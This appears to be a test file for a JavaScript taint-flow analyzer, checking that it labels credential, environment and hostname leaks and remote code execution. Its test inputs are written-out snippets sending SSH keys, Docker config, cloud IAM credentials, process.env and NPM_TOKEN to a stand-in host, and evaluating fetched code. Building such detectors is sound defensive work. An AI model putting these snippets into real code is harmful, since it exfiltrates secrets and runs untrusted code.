import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { labelNames } from './labels.ts';

const HOME = `import fs from 'fs'; import os from 'os'; import { join } from 'path';`;

test.each([
  [
    'a path of which no piece alone says it',
    `${HOME} fetch('https://a.weir.test', { body: fs.readFileSync(join(os.homedir(), '.docker', 'config.json')) })`,
    'credential',
  ],
  [
    'a copy of a file of keys',
    `${HOME} const to = join(os.tmpdir(), 'x'); fs.copyFileSync(os.homedir() + '/.ssh/id_rsa', to); fetch('https://a.weir.test', { body: fs.readFileSync(to) })`,
    'credential',
  ],
  [
    'an archive of a folder of keys',
    `${HOME} import Zip from 'adm-zip'; const zip = new Zip(); zip.addLocalFolder(os.homedir() + '/.ssh'); fetch('https://a.weir.test', { body: zip.toBuffer() })`,
    'credential',
  ],
  [
    'keys of a cloud, through a function that asks for any path',
    `const ask = async (path) => (await fetch('http://169.254.169.254/latest' + path)).text(); const keys = await ask('/meta-data/iam/security-credentials/r'); fetch('https://a.weir.test', { body: keys })`,
    'credential',
  ],
  [
    'what a generator yields',
    `import os from 'os'; import dns from 'dns'; function* labels(text) { yield text.slice(0, 60); } for (const label of labels(os.hostname())) dns.resolve4(label + '.a.weir.test', () => {});`,
    'host',
  ],
  [
    'what a parameter is by default',
    `const send = ({ body = JSON.stringify(process.env) } = {}) => fetch('https://a.weir.test', { body }); send();`,
    'envAll',
  ],
  [
    'what dotenv read',
    `import { config } from 'dotenv'; import { PostHog } from 'posthog-node'; const client = new PostHog('k', { host: 'https://a.weir.test' }); const { parsed } = config(); client.capture({ properties: { ...parsed } })`,
    'envAll',
  ],
  [
    'what a hook of a client adds',
    `import * as Sentry from '@sentry/node'; Sentry.init({ dsn: 'https://k@a.weir.test/1', beforeSend(event) { event.extra = { ...process.env }; return event; } })`,
    'envAll',
  ],
  [
    'a broker',
    `import mqtt from 'mqtt'; const client = mqtt.connect('mqtts://a.weir.test'); client.publish('t', JSON.stringify(process.env))`,
    'envAll',
  ],
  [
    'what a generator without a name of its own yields',
    `import os from 'os'; const all = {}; all.labels = function* (text) { yield text; }; for (const x of all.labels(os.hostname())) fetch('https://a.weir.test', { body: x });`,
    'host',
  ],
  [
    'secrets by the names of a list',
    `const NAMES = ['CI', 'NPM_TOKEN']; fetch('https://a.weir.test', { body: NAMES.map((name) => process.env[name]) })`,
    'envSecret',
  ],
  [
    'secrets by the names of a list, one after the other',
    `const NAMES = ['CI', 'NPM_TOKEN']; const pick = (env) => NAMES.reduce((all, n) => ({ ...all, [n]: env[n] }), {}); fetch('https://a.weir.test', { body: pick(process.env) })`,
    'envSecret',
  ],
  [
    'secrets by the names of a table',
    `const PARTS = { body: ['password'] }; function of(request) { const out = {}; for (const [part, names] of Object.entries(PARTS)) for (const n of names) out[n] = request[part][n]; fetch('https://a.weir.test', { body: out }); }`,
    'secretParam',
  ],
  [
    'a password in a list that is emptied',
    `const rows = []; module.exports = (password) => { rows.push(password); fetch('https://a.weir.test', { body: JSON.stringify(rows.splice(0)) }); };`,
    'secretParam',
  ],
  [
    'the rest of the arguments',
    `function send(n, ...x) { fetch('https://a.weir.test', { body: x }); } send(1, 2, process.env);`,
    'envAll',
  ],
  [
    'arguments that are spread',
    `function send(n, x) { fetch('https://a.weir.test', { body: x }); } const all = [1, process.env]; send(...all);`,
    'envAll',
  ],
  [
    'arguments that are applied',
    `function send(x) { fetch('https://a.weir.test', { body: x }); } send.apply(null, [process.env]); send.call(1, 2);`,
    'envAll',
  ],
  [
    'a name in the zone that a class is made with',
    `import dns from 'dns'; import os from 'os'; class A { constructor(o) { this.zone = o.zone; } ask(x) { dns.resolve4(\`\${x}.\${this.zone}\`, () => {}); } } new A({ zone: 'a.weir.test' }).ask(os.hostname());`,
    'host',
  ],
])('%s', (_how, source, label) => {
  const sent = analyzeJs(source).flow.flows.filter(({ sink }) => sink === 'network' || sink === 'dns');

  expect(sent.flatMap(({ labels }) => labelNames(labels))).toContain(label);
});

test.each([
  [
    'a service of the cloud',
    `const r = await fetch('http://169.254.169.254/latest/meta-data/placement/region'); fetch('https://a.weir.test', { body: await r.text() })`,
  ],
  [
    'one setting that dotenv read',
    `import { config } from 'dotenv'; const { parsed } = config(); fetch('https://a.weir.test', { body: parsed.PORT })`,
  ],
  [
    'names of a list without a secret',
    `const NAMES = ['CI', 'PORT']; fetch('https://a.weir.test', { body: NAMES.map((name) => process.env[name]) })`,
  ],
])('neither keys nor the environment: %s', (_how, source) => {
  const labels = analyzeJs(source).flow.flows.flatMap((flow) => labelNames(flow.labels));

  expect(labels).not.toContain('credential');
  expect(labels).not.toContain('envAll');
  expect(labels).not.toContain('envSecret');
});

test.each([
  [`export const send = (body, to = 'https://a.weir.test/u') => fetch(to, { body: process.env })`],
  [
    `import http2 from 'http2'; import fs from 'fs'; const s = http2.connect('https://a.weir.test/u'); const r = s.request({}); fs.createReadStream('/root/.ssh/id_rsa').pipe(r)`,
  ],
  [
    `import { Octokit } from '@octokit/rest'; const o = new Octokit({ baseUrl: 'https://a.weir.test/u' }); o.gists.create({ files: process.env })`,
  ],
  [
    `class A { constructor({ to, n = 5 }) { this.to = to; } send() { fetch(this.to, { body: process.env }); } } new A({ to: 'https://a.weir.test/u' }).send()`,
  ],
  [
    `import https from 'https'; class B { constructor(o) { this.to = o.to; } } class A extends B { constructor(o) { super({ n: 1, ...o }); } send(x) { https.request(this.to).end(process.env.A); } } new A({ to: 'https://a.weir.test/u' }).send()`,
  ],
])('where it goes: %s', (source) => {
  expect(analyzeJs(source).flow.flows.flatMap(({ targets }) => targets.map(({ text }) => text))).toContain(
    'https://a.weir.test/u',
  );
});

test.each([
  [
    'by a method that is bound',
    `https.get('https://a.weir.test', (res) => { const parts = []; res.on('data', parts.push.bind(parts)); res.on('end', () => eval(Buffer.concat(parts).toString())); })`,
  ],
  [
    'by what made a function',
    `const build = Object.getPrototypeOf(function () {}).constructor; fetch('https://a.weir.test').then((r) => r.text()).then((t) => build('v', t)())`,
  ],
])('what a server answers runs: %s', (_how, source) => {
  const { flows } = analyzeJs(`import https from 'https'; ${source}`).flow;

  expect(flows.filter(({ sink }) => sink === 'code').flatMap(({ labels }) => labelNames(labels))).toContain(
    'network',
  );
});
